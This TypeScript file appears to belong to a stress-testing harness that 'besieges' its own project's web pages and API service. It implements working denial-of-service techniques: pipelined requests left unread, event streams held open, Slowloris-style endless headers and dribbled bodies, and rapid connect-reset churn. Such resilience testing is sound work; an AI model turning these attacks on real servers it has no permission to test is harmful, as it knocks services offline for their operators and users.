import { request } from 'undici';
import { type Attack, type Attacker, keepOpen, writeRequest } from '../attacker.ts';

const CONNECTIONS = 32;
/** So many answers, or their refusals, are more than the kernel takes for who reads nothing. */
const PIPELINED = 400;
const STREAMS = 16;
const DRIBBLE_MS = 1_000;
/** Whoever was cut comes back at this pace. */
const REOPEN_MS = 1_000;
const COME_MS = 200;

/** Asks for the largest asset of the pages many times at once and reads none of it. */
export const readNothingOfPages: Attack = (attacker) => {
  void findLargestAsset(attacker).then((path) => {
    const requests = writeRequest('GET', path).repeat(PIPELINED);
    keepOpen(
      attacker,
      { most: CONNECTIONS, everyMs: REOPEN_MS, url: () => attacker.siege().targets.webUrl },
      (socket) => socket.write(requests),
    );
  });
};

/** The same of the service, which describes itself to anybody. */
export const readNothingOfService: Attack = (attacker) => {
  const requests = writeRequest('GET', '/openapi.json').repeat(PIPELINED);
  keepOpen(
    attacker,
    { most: CONNECTIONS, everyMs: REOPEN_MS, url: () => attacker.siege().targets.serviceUrl },
    (socket) => socket.write(requests),
  );
};

/** Takes every stream that the own orders allow, and reads none of them. */
export const readNoStream: Attack = (attacker) => {
  keepOpen(
    attacker,
    { most: STREAMS, everyMs: REOPEN_MS, url: () => attacker.siege().targets.webUrl },
    (socket) => socket.write(writeRequest('GET', `/s/${ownToken(attacker)}/events`)),
  );
};

/** Heads that never end, and bodies of which a byte comes now and then. */
export const askByHalves: Attack = (attacker) => {
  const { webUrl, serviceUrl } = attacker.siege().targets;
  for (const url of [webUrl, serviceUrl]) {
    let opened = 0;
    keepOpen(attacker, { most: CONNECTIONS / 2, everyMs: REOPEN_MS, url: () => url }, (socket) => {
      opened += 1;
      const path = url === webUrl ? `/s/${ownToken(attacker)}/open` : '/v1/quotes';
      const head = `POST ${path} HTTP/1.1\r\nHost: bot.example\r\n`;
      const json = 'Content-Type: application/json\r\nContent-Length: 900\r\n\r\n{';
      socket.write(head + (opened % 2 === 0 ? json : 'X-Slow: '));
      socket.resume();
      const dribble = setInterval(() => socket.write('x'), DRIBBLE_MS);
      socket.once('close', () => clearInterval(dribble));
    });
  }
};

/** Connects, sends nothing or half a line, and is gone. */
export const comeAndGo: Attack = (attacker) => {
  const { webUrl, serviceUrl } = attacker.siege().targets;
  let turn = 0;
  const url = () => (turn % 2 === 0 ? webUrl : serviceUrl);
  keepOpen(attacker, { most: CONNECTIONS, everyMs: COME_MS, url }, (socket) => {
    turn += 1;
    if (turn % 3 === 0) socket.write('GET /s/');
    setTimeout(() => (turn % 2 === 0 ? socket.resetAndDestroy() : socket.destroy()), 20);
  });
};

/** The token of a page of their own. */
export function ownToken(attacker: Attacker): string {
  const { tokens } = attacker.siege();
  return tokens[attacker.place % tokens.length] ?? '';
}

async function findLargestAsset(attacker: Attacker): Promise<string> {
  const { webUrl } = attacker.siege().targets;
  const page = await request(`${webUrl}/s/${ownToken(attacker)}`);
  const script = /src="(\/assets\/[^"]+)"/.exec(await page.body.text())?.[1];
  if (script === undefined) throw new Error('the page names no script');
  return script;
}
